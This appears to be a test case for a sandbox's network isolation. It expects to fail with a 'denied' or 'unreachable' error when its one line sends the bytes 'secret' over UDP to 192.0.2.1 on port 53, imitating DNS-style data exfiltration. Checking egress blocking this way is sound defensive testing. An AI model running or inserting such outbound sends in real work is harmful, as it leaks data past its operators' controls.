# ending: failed
# needs: isolated
# stderr: denied|unreachable
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53))
